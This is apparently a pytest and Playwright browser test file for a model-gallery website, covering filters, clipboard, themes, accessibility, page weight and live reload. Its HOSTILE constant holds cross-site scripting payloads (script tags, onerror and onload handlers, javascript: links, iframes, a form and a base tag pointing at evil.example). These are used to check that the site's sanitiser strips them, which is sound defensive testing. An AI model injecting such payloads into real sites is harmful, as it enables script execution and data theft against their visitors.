"""Pages in a real browser: model pages, ways to look, what is hostile, what changes while one looks.

Every test fails on a console message, an error, a failed request, or a request to another host.
"""

from __future__ import annotations

import gzip
import os
import re
import signal
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from browsing import NEWEST, Visitor, built, found, having, ids, needed, records, serving, status
from conftest import MINIMAL, write
from galleryctl.memory import Build
from galleryctl.site import fit

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from playwright.sync_api import Browser

PAGES = {
    "home": "",
    "type": "types/llm/",
    "publishers": "publishers/",
    "publisher": "publishers/qwen/",
    "model": "models/qwen/qwen3/",
    "changes": "changes/",
    "review": "review/",
    "about": "about/",
    "rules": "rules/",
    "lost": "404.html",
}
MODEL = "models/llm/acme/tiny/model.yaml"
CARD = "models/llm/acme/tiny/README.md"
HOSTILE = """

<script>document.title = 'owned'; fetch('https://evil.example/script')</script>
<img src="https://evil.example/pixel.png" onerror="document.title = 'owned'">
![remote](https://evil.example/markdown.png)
<svg onload="document.title = 'owned'"><script>document.title = 'owned'</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>@import "https://evil.example/style.css"; h1 {display: none}</style>
<a href="javascript:document.title = 'owned'">html link</a> [markdown link](javascript:document.title='owned')
<form action="https://evil.example/"><button>Send</button></form><base href="https://evil.example/">
<p id="main" class="toast show" style="position: fixed; inset: 0">cover</p>
"""


pytestmark = needed


# the reader's machine, and the page of a model


def test_the_budget_moves_what_fits(visit: Visitor, site: Path) -> None:
    page = visit()
    page.focus("#gib")
    for _ in range(12):
        page.keyboard.press("ArrowLeft")
    assert page.get_attribute("#gib", "aria-valuetext") == "1 GiB"
    assert page.locator(".row .fit.no").count() > 0
    page.check("input[name=fit][value=yes]")
    small = [
        key
        for key, record in records(site).items()
        if any(fit.need(Build(*b), 8192) <= 0.9 for b in record.get("builds", ()))
    ]
    found(page, small)
    page.reload()
    found(page, small)
    assert page.get_attribute("#gib", "aria-valuetext") == "1 GiB"
    page.focus("#gib")
    page.keyboard.press("ArrowRight")
    more = [
        key
        for key, record in records(site).items()
        if any(fit.need(Build(*b), 8192) <= 1.8 for b in record.get("builds", ()))
    ]
    found(page, more)
    assert len(more) > len(small)


def test_ids_digests_and_commands_are_copied(visit: Visitor) -> None:
    page = visit("models/qwen/qwen3/", permissions=["clipboard-read", "clipboard-write"])

    def copied(selector: str) -> str:
        page.locator(selector).first.click()
        page.wait_for_selector(f"{selector}.done")
        return str(page.evaluate("navigator.clipboard.readText()"))

    assert copied(".idline .copy") == "qwen/qwen3"
    page.wait_for_selector("#toast.show:text('Copied')")
    digest = copied(".side .digest .copy")
    assert re.fullmatch("[0-9a-f]{64}", digest)
    assert digest == page.get_attribute(".side .digest abbr", "title")
    assert copied(".runs .cmd:visible .copy") == page.locator(".runs .cmd:visible pre").first.inner_text()


def test_refused_clipboard_and_storage_are_no_errors(visit: Visitor) -> None:
    refuse = """
      navigator.clipboard.writeText = () => Promise.reject(new Error('refused'));
      Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('refused', 'SecurityError'); } });
    """
    page = visit("models/qwen/qwen3/", before=refuse)
    page.locator(".runs .cmd:visible .copy").first.click()
    page.wait_for_selector("#toast.show:text('selected')")
    assert page.evaluate("getSelection().toString()") == page.locator(".runs .cmd:visible pre").first.inner_text()
    page.select_option("#mine", "8")
    page.click("#theme-switch")
    assert page.get_attribute("html", "data-theme") == "dark"


def test_what_to_run_and_its_memory_follow_the_choice(visit: Visitor) -> None:
    page = visit("models/qwen/qwen3/")
    before, command = page.inner_text("#runneed"), page.locator(".runs .cmd:visible pre").first.inner_text()
    options = page.locator("#target option").count()
    page.select_option("#target", index=options - 1)
    assert page.inner_text("#runneed") != before
    page.select_option("#target", label=before.partition(" needs")[0])
    assert page.inner_text("#runneed") == before
    assert page.locator(".runs .cmd:visible pre").first.inner_text() == command
    tabs = page.get_by_role("tab")
    tabs.first.focus()
    page.keyboard.press("ArrowRight")
    assert tabs.nth(1).get_attribute("aria-selected") == "true"
    assert page.evaluate("document.activeElement.textContent") == tabs.nth(1).inner_text()
    assert page.locator(".runs > section:visible").count() == 1
    fitting = page.locator(".mem tbody:visible td.yes").count()
    page.select_option("#mine", "640")
    assert page.locator(".mem tbody:visible td.yes").count() > fitting
    assert page.inner_text(".legend .gib") == "640 GiB"
    page.click("[data-more]")
    assert page.locator(".files .allf:visible").count() > 0
    assert page.evaluate("document.activeElement.closest('.allf') !== null")


# ways to look


def test_the_theme_is_chosen_and_kept(visit: Visitor) -> None:
    page = visit(color_scheme="dark")
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.click("#theme-switch")
    assert page.get_attribute("html", "data-theme") == "light"
    page.goto(f"{visit.address}about/")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != dark


def test_filters_fold_on_a_phone(visit: Visitor, site: Path) -> None:
    page = visit(width=360, has_touch=True, is_mobile=True)
    for name in ("Models", "Publishers", "Changes", "About"):
        assert page.locator(f".nav >> text={name}").is_visible()
    box = page.locator("input[name=abilities][value=chat]")
    assert not box.is_visible()
    page.tap(".facets-toggle")
    assert page.get_attribute(".facets-toggle", "aria-expanded") == "true"
    box.check()
    found(page, having(site, abilities="chat"))
    page.tap(".facets-toggle")
    assert page.get_attribute(".facets-toggle", "aria-expanded") == "false"
    assert not box.is_visible()
    page.tap(".active .chip >> nth=0")
    status(page, f"^1–{NEWEST} of .* models$")
    assert page.evaluate("document.activeElement.className").endswith("facets-toggle")  # no keyboard pops up


def test_print_colours_and_motion_as_the_reader_has_set_them(visit: Visitor) -> None:
    page = visit("models/qwen/qwen3/", forced_colors="active", reduced_motion="reduce")
    colours = "node => { const seen = getComputedStyle(node); return [seen.color, seen.backgroundColor]; }"
    text, ground = page.eval_on_selector("body", colours)
    assert text != ground
    page.focus("#target")
    assert page.eval_on_selector("#target", "node => getComputedStyle(node).outlineStyle") != "none"
    assert page.eval_on_selector(".btn", "node => getComputedStyle(node).transitionDuration") == "0s"
    page.emulate_media(media="print")
    assert [page.locator(name).first.is_visible() for name in (".top", ".foot", ".subnav", ".copy")] == [False] * 4
    assert page.locator("h1").is_visible()
    assert page.locator(".card").first.is_visible()


def test_nothing_jumps(visit: Visitor) -> None:
    page = visit("?abilities=chat&sort=name")
    status(page, "matching")
    shift = """() => new Promise(done => {
      const add = list => done(list.getEntries().reduce((sum, entry) => sum + entry.value, 0));
      new PerformanceObserver(add).observe({ type: 'layout-shift', buffered: true });
      setTimeout(() => done(0), 200);  // an observer of nothing never calls
    })"""
    assert page.evaluate(shift) < 0.1


@pytest.mark.parametrize("name", ["home", "model"])
def test_without_script_nothing_is_shown_that_needs_it(visit: Visitor, name: str) -> None:
    page = visit(PAGES[name], script=False)
    assert page.locator("h1").count() == 1
    assert page.locator(".js-only:visible").count() == 0


def test_every_model_is_reached_by_links_alone(visit: Visitor, site: Path) -> None:
    page = visit(script=False)
    page.click("text=/All \\d+ models/")
    reached = ids(page)
    while page.locator(".pager >> text=Next").count():
        page.click(".pager >> text=Next")
        reached += ids(page)
    assert reached == list(records(site))
    page.click(".row h3 a >> nth=0")
    assert page.locator(".card").count() > 0
    assert page.locator(".runs > section").first.is_visible()


@pytest.mark.parametrize("name", PAGES)
def test_axe_finds_nothing_and_nothing_scrolls_sideways(visit: Visitor, name: str) -> None:
    from axe_playwright_python.sync_playwright import Axe  # noqa: PLC0415 - as the browser

    page = visit(PAGES[name], width=360, reduced_motion="reduce")  # a colour on its way is no colour
    page.evaluate(Axe().axe_script)
    tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
    # a dozen rows, and of other lists as many, tell what the rest would
    check = """async rules => (await axe.run({ exclude: [['.row:nth-child(n+13)'], ['.rule:nth-of-type(n+13)']] },
        { runOnly: rules, resultTypes: ['violations'] })).violations
      .map(fault => [fault.id, fault.nodes[0].html.slice(0, 200)])"""
    for width in (360, 768, 1440):
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0, width
        if width != 768:  # between the two nothing new is shown
            assert page.evaluate(check, tags) == [], width
    page.emulate_media(color_scheme="dark")  # which changes colours only
    assert page.evaluate(check, ["color-contrast"]) == []


def test_the_home_page_is_light_before_the_first_search(browser: Browser, served: str, site: Path) -> None:
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(served)
    page.wait_for_selector("html[data-ready]", state="attached")
    context.close()
    paths = [url.removeprefix(served).partition("?")[0] or "index.html" for url in asked]
    assert "assets/finder.js" in paths
    assert not any(path.startswith(("v1/", "assets/vendor")) for path in paths)
    assert sum(len(gzip.compress((site / path).read_bytes())) for path in paths) <= 150_000


# what others write, and what changes while one looks


def test_nothing_of_a_hostile_definition_runs_or_leaves(
    browser: Browser, registry: Callable[..., Path], tmp_path: Path
) -> None:
    title = 'Tiny <3 & "Co"'  # markup in a title is an error already
    model = str(MINIMAL[MODEL]).replace("title: Tiny", f"title: '{title}'")
    out = built(registry({MODEL: model, CARD: str(MINIMAL[CARD]) + HOSTILE}), tmp_path / "site")
    with serving(out) as address:
        visitor = Visitor(browser, address)
        page = visitor("models/acme/tiny/")
        assert page.inner_text("h1") == title
        text = page.locator(".card").inner_text()
        assert "html link" in text
        assert "markdown link" in text
        for tag in (
            "script",
            "iframe",
            "form",
            "style",
            "img",
            "base",
            "svg",
            "button",
            "[style]",
            "[onload]",
            "#main",
        ):
            assert page.locator(f".card {tag}").count() == 0, tag
        for words in ("html link", "markdown link"):
            page.locator(f".card :text('{words}')").last.click()
        assert page.eval_on_selector_all(".card a", "links => links.every(link => link.protocol !== 'javascript:')")
        assert page.title().startswith("Tiny")
        page.goto(f"{address}?q=tiny")
        status(page, "^1 of 1 models")
        assert page.inner_text(".row h3") == title
        visitor.close()
    assert visitor.complaints == []


def test_an_open_page_follows_its_definition(browser: Browser, registry: Callable[..., Path]) -> None:
    from playwright.sync_api import expect  # noqa: PLC0415 - as the browser

    folder = registry()
    command = [sys.executable, "-m", "galleryctl", "serve", "--registry", str(folder), "--port", "0"]
    with subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    ) as server:
        try:
            assert server.stdout is not None
            address = next(match[1] for line in server.stdout if (match := re.search(r"on (http://[\w.:]+)", line)))
            visitor = Visitor(browser, f"{address}/")
            page = visitor("models/acme/tiny/")
            assert page.inner_text("h1") == "Tiny"
            write(folder, {MODEL: str(MINIMAL[MODEL]).replace("title: Tiny", "title: Huge")})
            expect(page.locator("h1")).to_have_text("Huge", timeout=20_000)
            visitor.close()
        finally:
            server.send_signal(signal.SIGINT)
    assert visitor.complaints == []
